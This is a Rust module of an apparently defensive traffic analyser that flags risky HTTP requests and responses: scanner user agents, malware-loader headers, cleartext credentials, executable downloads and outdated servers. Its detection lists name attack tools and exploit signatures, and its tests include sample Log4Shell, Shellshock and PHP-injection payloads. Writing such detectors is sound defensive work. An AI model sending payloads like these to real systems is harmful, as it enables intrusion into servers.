//! Risks of HTTP messages: user agents, hosts, header fields, credentials, bodies (RFC 9110).

use memchr::memmem;

use super::targets;
use crate::dissect::Found;
use crate::vocabulary::Risk;

/// Names of programs that search for weaknesses, as they give them.
const SCANNERS: [&str; 16] = [
    "sqlmap/",
    "nikto/",
    "nmap scripting engine",
    "masscan/",
    "zgrab",
    "dirbuster",
    "gobuster/",
    "wpscan",
    "acunetix",
    "nessus",
    "w3af.",
    "havij",
    "openvas",
    "nuclei",
    "fuzz faster",
    "hydra",
];

/// Fields that loaders of malware send (nDPI, "Flow Risks").
const FIELDS_OF_LOADERS: [&str; 4] = ["tls_version", "osname", "osversion", "uuid"];

/// Weaknesses by what their attempts have.
const EXPLOITS: [(&str, &str); 6] = [
    ("${jndi:", "CVE-2021-44228"),
    ("${${", "CVE-2021-44228"),
    ("() { :", "CVE-2014-6271"),
    ("() {:", "CVE-2014-6271"),
    ("class.module.classloader", "CVE-2022-22965"),
    ("%{(#", "CVE-2017-5638"),
];

/// Suffixes of programs, archives and images of disks.
const SUFFIXES: [&str; 16] = [
    ".exe", ".msi", ".dll", ".scr", ".apk", ".dmg", ".pkg", ".deb", ".rpm", ".iso", ".img", ".zip", ".rar",
    ".7z", ".tgz", ".cab",
];

/// Servers that are not maintained any more: a product and the first version that is.
const SERVERS: [(&str, [u32; 3]); 5] = [
    ("Apache/", [2, 4, 0]),
    ("nginx/", [1, 18, 0]),
    ("Microsoft-IIS/", [10, 0, 0]),
    ("PHP/", [8, 0, 0]),
    ("OpenSSL/", [1, 1, 1]),
];

/// Judges the first line of a request. It may come before the rest of the head.
pub(crate) fn target(method: &[u8], target: &[u8], found: &mut Found<'_>) {
    if !found.wants_risks() || method == b"CONNECT" {
        return;
    }
    targets::judge(target, found);
    exploit(target, found);
    let path = target.split(|byte| *byte == b'?').next().unwrap_or_default();
    let path = String::from_utf8_lossy(path).to_ascii_lowercase();
    if let Some(suffix) = SUFFIXES.iter().find(|suffix| path.ends_with(*suffix)) {
        found.risk(Risk::BINARY_DATA_TRANSFER, suffix);
    }
    if let Some((_, rest)) = path.split_once("://") {
        let authority = rest.split('/').next().unwrap_or_default();
        if let Some((user, _)) = authority.split_once('@') {
            let user = user.split(':').next().unwrap_or_default();
            found.risk(Risk::CLEAR_TEXT_CREDENTIALS, format!("HTTP: {user}"));
        }
    }
}

/// Judges a header field of a request.
pub(crate) fn field(name: &[u8], value: &[u8], found: &mut Found<'_>) {
    if !found.wants_risks() {
        return;
    }
    let is = |other: &str| name.eq_ignore_ascii_case(other.as_bytes());
    if FIELDS_OF_LOADERS.iter().any(|field| is(field)) {
        found.risk(Risk::HTTP_SUSPICIOUS_HEADER, name);
    }
    exploit(value, found);
    if is("User-Agent") {
        user_agent(value, found);
    } else if is("Host") {
        if value.iter().any(u8::is_ascii_control) || std::str::from_utf8(value).is_err() {
            found.risk(Risk::INVALID_CHARACTERS, value);
        }
    } else if is("Authorization") {
        basic(value, found);
    }
}

/// RFC 7617: `Basic`, then user and password with a colon in base64.
fn basic(value: &[u8], found: &mut Found<'_>) {
    let Some((scheme, token)) = value.split_at_checked(6) else { return };
    if !scheme.eq_ignore_ascii_case(b"Basic ") || token.trim_ascii().len() < 4 {
        return;
    }
    let bytes = base64(token.trim_ascii());
    let user = bytes.split(|byte| *byte == b':').next().unwrap_or_default();
    found.risk(Risk::CLEAR_TEXT_CREDENTIALS, [b"HTTP: ", user].concat());
}

/// RFC 4648, section 4, as far as it goes.
pub(crate) fn base64(text: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    let (mut bits, mut count) = (0_u32, 0);
    for byte in text {
        let value = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => break,
        };
        bits = bits << 6 | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count) as u8);
        }
    }
    bytes
}

fn exploit(value: &[u8], found: &mut Found<'_>) {
    if !value.iter().any(|byte| matches!(byte, b'{' | b'%' | b'.')) {
        return;
    }
    let text =
        String::from_utf8_lossy(value).to_ascii_lowercase().replace("%24%7b", "${").replace("%7b", "{");
    for (sign, name) in EXPLOITS {
        let Some(at) = memmem::find(text.as_bytes(), sign.as_bytes()) else { continue };
        // A look-up within a look-up hides the word.
        if sign != "${${" || memmem::find(text.as_bytes().get(at..).unwrap_or_default(), b"ldap").is_some() {
            found.risk(Risk::POSSIBLE_EXPLOIT, name);
        }
    }
}

fn user_agent(value: &[u8], found: &mut Found<'_>) {
    let text = String::from_utf8_lossy(value).to_ascii_lowercase();
    let is_code = ["<?php", "<script", "${", "() {", "<?=", "eval("].iter().any(|sign| text.contains(sign));
    let is_scanner = SCANNERS.iter().any(|name| text.contains(name));
    if is_code || is_scanner || value.iter().any(|byte| byte.is_ascii_control() && *byte != b'\t') {
        found.risk(Risk::HTTP_SUSPICIOUS_USER_AGENT, value);
    }
    let has_word = ["bot", "crawler", "spider", "slurp"].iter().any(|word| text.contains(word));
    if has_word && (text.contains("http://") || text.contains("https://") || text.contains("bot/")) {
        found.risk(Risk::HTTP_CRAWLER_BOT, value);
    }
}

/// The relevant parts of a response.
pub(crate) struct Response<'a> {
    pub(crate) status: &'a [u8],
    pub(crate) server: &'a [u8],
    pub(crate) content_type: &'a [u8],
    pub(crate) is_encoded: bool,
    pub(crate) body: &'a [u8],
}

impl Response<'_> {
    /// Judges the response.
    pub(crate) fn judge(&self, found: &mut Found<'_>) {
        if !found.wants_risks() {
            return;
        }
        if matches!(self.status.first(), Some(b'4' | b'5')) {
            found.risk(Risk::ERROR_CODE_DETECTED, [b"HTTP ", self.status].concat());
        }
        if is_obsolete(self.server) {
            found.risk(Risk::HTTP_OBSOLETE_SERVER, self.server);
        }
        if self.content_type.eq_ignore_ascii_case(b"application/vnd.android.package-archive") {
            found.risk(Risk::BINARY_APPLICATION_TRANSFER, "Android package");
        }
        if self.is_encoded {
            return;
        }
        body(self.body, found);
        let is_text = self.content_type.get(..5).is_some_and(|begin| begin.eq_ignore_ascii_case(b"text/"));
        let begin = self.body.get(..16).unwrap_or(self.body);
        // RFC 9110, section 8.3.1; UTF-16 begins with its mark. No text of any character set has these bytes.
        let is_binary = |byte: &u8| matches!(byte, 0..=6 | 0x0e..=0x1a | 0x1c..=0x1f);
        let is_utf16 = begin.starts_with(b"\xff\xfe") || begin.starts_with(b"\xfe\xff");
        if is_text
            && !is_utf16
            && begin.len() >= 8
            && begin.iter().filter(|byte| is_binary(byte)).count() >= 2
        {
            let shown: String = begin.iter().take(8).map(|byte| format!("{byte:02x}")).collect();
            found.risk(
                Risk::HTTP_SUSPICIOUS_CONTENT,
                format!("{}: {shown}", String::from_utf8_lossy(self.content_type)),
            );
        }
    }
}

/// Judges the beginning of a body.
pub(crate) fn body(body: &[u8], found: &mut Found<'_>) {
    if !found.wants_risks() {
        return;
    }
    if let Some(kind) = program(body) {
        found.risk(Risk::BINARY_APPLICATION_TRANSFER, kind);
    }
    let archives: [(&[u8], &str); 5] = [
        (b"PK\x03\x04", "ZIP"),
        (b"Rar!\x1a\x07", "RAR"),
        (b"7z\xbc\xaf\x27\x1c", "7z"),
        (b"\xfd7zXZ\x00", "XZ"),
        (b"MSCF\0\0\0\0", "CAB"),
    ];
    if let Some((_, kind)) = archives.iter().find(|(magic, _)| body.starts_with(magic)) {
        found.risk(Risk::BINARY_DATA_TRANSFER, kind);
    }
}

/// The kind of program that begins so: PE (offset of its header at 0x3c), ELF, Mach-O, a script.
fn program(body: &[u8]) -> Option<&'static str> {
    if body.starts_with(b"MZ") {
        let offset = body.get(0x3c..0x40)?.try_into().ok().map(u32::from_le_bytes)?;
        return body.get(offset as usize..)?.starts_with(b"PE\0\0").then_some("Windows program");
    }
    match body {
        [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..] => Some("ELF program"),
        [0xce | 0xcf, 0xfa, 0xed, 0xfe, ..] => Some("Mach-O program"),
        [b'#', b'!', b'/', ..] => Some("script"),
        _ => None,
    }
}

fn is_obsolete(server: &[u8]) -> bool {
    let text = String::from_utf8_lossy(server);
    text.split([' ', ',']).any(|product| {
        SERVERS.iter().any(|(name, least)| {
            product.strip_prefix(name).is_some_and(|version| {
                let mut numbers = version.split('.').map(|part| {
                    let digits: String = part.chars().take_while(char::is_ascii_digit).collect();
                    digits.parse::<u32>().ok()
                });
                let first = numbers.next().flatten();
                let second = numbers.next();
                let third = numbers.next().flatten().unwrap_or(0);
                // "Apache/2" says too little.
                match (first, second) {
                    (Some(first), Some(Some(second))) => [first, second, third] < *least,
                    _ => false,
                }
            })
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::Exchange;

    fn request(fields: &str) -> Exchange {
        Exchange::tcp(80).client(format!("GET /a HTTP/1.1\r\nHost: a.example\r\n{fields}\r\n\r\n"))
    }

    fn response(fields: &str, body: &[u8]) -> Exchange {
        let head = format!("HTTP/1.1 200 OK\r\n{fields}\r\n\r\n");
        request("User-Agent: Mozilla/5.0 (X11)").server([head.as_bytes(), body].concat())
    }

    #[test]
    fn requests() {
        for (fields, risk, evidence) in [
            ("User-Agent: <?php system('x'); ?>", Risk::HTTP_SUSPICIOUS_USER_AGENT, "<?php system('x'); ?>"),
            (
                "User-Agent: sqlmap/1.7#stable (https://sqlmap.org)",
                Risk::HTTP_SUSPICIOUS_USER_AGENT,
                "sqlmap/1.7#stable (https://sqlmap.org)",
            ),
            (
                "User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                Risk::HTTP_CRAWLER_BOT,
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
            ("TLS_version: 1.2", Risk::HTTP_SUSPICIOUS_HEADER, "TLS_version"),
            (
                "Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
                Risk::CLEAR_TEXT_CREDENTIALS,
                "HTTP: Aladdin",
            ),
            ("X-Api: ${jndi:ldap://x.example/a}", Risk::POSSIBLE_EXPLOIT, "CVE-2021-44228"),
            ("Cookie: () { :; }; /bin/x", Risk::POSSIBLE_EXPLOIT, "CVE-2014-6271"),
        ] {
            let exchange = request(fields);
            assert_eq!(exchange.outcome().evidence(risk), Some(evidence), "{fields}");
            exchange.assert_cuts_do_not_matter();
        }
        let ordinary = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAuthorization: Bearer a.b.c\r\nCookie: a={b}; c=%7B%22d%22%7D\r\nX-Request-Id: 1";
        assert_eq!(request(ordinary).outcome().risks(), []);
        assert_eq!(request("User-Agent: curl/8.5.0").outcome().risks(), []);
    }

    #[test]
    fn responses() {
        let mut program = b"MZ".to_vec();
        program.resize(0x3c, 0);
        program.extend([0x40, 0, 0, 0]);
        program.extend(b"PE\0\0");
        let kind = "Content-Type: application/octet-stream";
        assert_eq!(
            response(kind, &program).outcome().evidence(Risk::BINARY_APPLICATION_TRANSFER),
            Some("Windows program")
        );
        assert_eq!(
            response(kind, b"MZ something else that is long enough to have the place of an offset")
                .outcome()
                .risks(),
            []
        );
        assert_eq!(
            response(kind, b"\x7fELF\x02\x01\x01\0").outcome().risks(),
            [Risk::BINARY_APPLICATION_TRANSFER]
        );
        assert_eq!(response(kind, b"PK\x03\x04abcdef").outcome().risks(), [Risk::BINARY_DATA_TRANSFER]);
        let outcome = response("Content-Type: text/html", b"\x01\x02\x03\x04\x05\x06\x07\x08").outcome();
        assert_eq!(outcome.evidence(Risk::HTTP_SUSPICIOUS_CONTENT), Some("text/html: 0102030405060708"));
        for (fields, body) in [
            (
                "Content-Type: text/html\r\nContent-Encoding: gzip",
                &b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"[..],
            ),
            ("Content-Type: text/html", b"<html>\r\n<body>"),
            ("Content-Type: text/plain", b"\xff\xfeh\0e\0l\0l\0o\0"),
            ("Content-Type: image/png", b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR"),
        ] {
            assert_eq!(response(fields, body).outcome().risks(), [], "{fields}");
        }
        let error = request("User-Agent: curl/8.5.0").server("HTTP/1.1 404 Not Found\r\n\r\n").outcome();
        assert_eq!(error.evidence(Risk::ERROR_CODE_DETECTED), Some("HTTP 404"));
    }

    #[test]
    fn servers_have_ends_of_support() {
        for (server, obsolete) in [
            ("Apache/2.2.15 (CentOS)", true),
            ("Apache/2.4.58 (Unix)", false),
            ("Apache", false),
            ("Apache/2", false),
            ("nginx/1.10.3", true),
            ("nginx/1.27.0", false),
            ("nginx", false),
            ("Microsoft-IIS/7.5", true),
            ("Microsoft-IIS/10.0", false),
            ("Apache/2.4.58 PHP/5.4.16", true),
            ("Apache-Coyote/1.1", false),
            ("gws", false),
        ] {
            assert_eq!(is_obsolete(server.as_bytes()), obsolete, "{server}");
        }
    }

    #[test]
    fn files_and_users_show_in_targets() {
        let head = "GET http://me:secret@a.example/setup.exe?x=1 HTTP/1.1\r\nHost: a.example\r\n\r\n";
        let outcome = Exchange::tcp(3128).client(head).outcome();
        assert_eq!(outcome.evidence(Risk::BINARY_DATA_TRANSFER), Some(".exe"));
        assert_eq!(outcome.evidence(Risk::CLEAR_TEXT_CREDENTIALS), Some("HTTP: me"));
        assert_eq!(base64(b"Zm9vYmE="), b"fooba");
    }
}
